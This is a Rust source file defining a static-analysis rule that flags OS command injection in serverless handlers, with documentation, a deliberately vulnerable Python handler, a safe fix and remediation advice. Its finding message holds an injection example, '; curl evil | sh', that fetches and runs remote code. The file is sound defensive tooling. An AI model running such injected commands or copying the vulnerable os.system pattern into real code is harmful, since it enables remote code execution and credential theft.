//! ## What it does
//! Flags handler code where data from the function's event (an HTTP body, a query parameter, an
//! S3 object key, a queue message) reaches a shell: `os.system`, `os.popen`, `subprocess` with
//! `shell=True` or `sh -c`, Node's `child_process.exec`/`execSync` or `spawn` with `shell: true`,
//! Java's `ProcessBuilder`/`Runtime.exec` with `sh -c`, Go's `exec.Command("sh", "-c", …)`. The
//! finding shows each step from the event to the call, and who can choose the event.
//!
//! ## Why is this bad?
//! The shell interprets `;`, `|`, `$(…)` and backquotes in the string it is given, so whoever
//! chooses the event runs any command with the function's role: they read its environment (and
//! its temporary credentials), call every AWS API the role allows, and pivot from there. An S3
//! key or an SQS message is as much attacker input as an HTTP body when others can write to the
//! bucket or queue.
//!
//! The finding names who can choose the event (the function's triggers); it is critical
//! when an entry point is public (an unauthenticated route, a bucket anyone can write to) and
//! medium when only a schedule invokes the function.
//!
//! ## Example
//! ```python
//! import os
//!
//! def handler(event, context):
//!     key = event["Records"][0]["s3"]["object"]["key"]
//!     os.system("convert /tmp/" + key + " /tmp/thumb.png")
//! ```
//!
//! Use instead:
//! ```python
//! import subprocess
//!
//! def handler(event, context):
//!     key = event["Records"][0]["s3"]["object"]["key"]
//!     subprocess.run(["convert", "/tmp/" + key, "/tmp/thumb.png"], check=True)
//! ```
//!
//! ## Remediation
//! Do not use a shell: pass the program and its arguments as a list (`subprocess.run([...])`,
//! `execFile`, `spawn` without `shell`, `exec.Command(prog, args...)`). When a shell is
//! unavoidable, quote every event value (`shlex.quote`) or check it against an allow-list first.
//! Prefer a library over a command (an image library instead of `convert`).
//!
//! ## References
//! - CWE-78: Improper Neutralization of Special Elements used in an OS Command
//! - https://owasp.org/www-community/attacks/Command_Injection
//! - https://docs.python.org/3/library/subprocess.html#security-considerations

use super::check_flows;
use crate::{Family, Finding, Level, Rule, RuleMeta, Severity};
use perimeter_model::{App, SinkKind};

pub struct OsCommandInjection;

static META: RuleMeta = RuleMeta {
    code: "INJ001",
    name: "os-command-injection",
    family: Family::Inj,
    summary: "Event data reaches a shell command",
    severity: Severity::High,
    likelihood: Level::Medium,
    impact: Level::High,
    confidence: Level::Medium,
    source: include_str!("os_command_injection.rs"),
};

const REMEDIATION: &str = "Pass the program and arguments as a list without a shell; quote (shlex.quote) or allow-list any event value that must reach a shell.";

impl Rule for OsCommandInjection {
    fn meta(&self) -> &RuleMeta {
        &META
    }

    fn check(&self, app: &App, out: &mut Vec<Finding>) {
        check_flows(
            &META,
            SinkKind::OsCommand,
            "the shell runs whatever the sender puts in it (`; curl evil | sh`)",
            REMEDIATION,
            app,
            out,
        );
    }
}
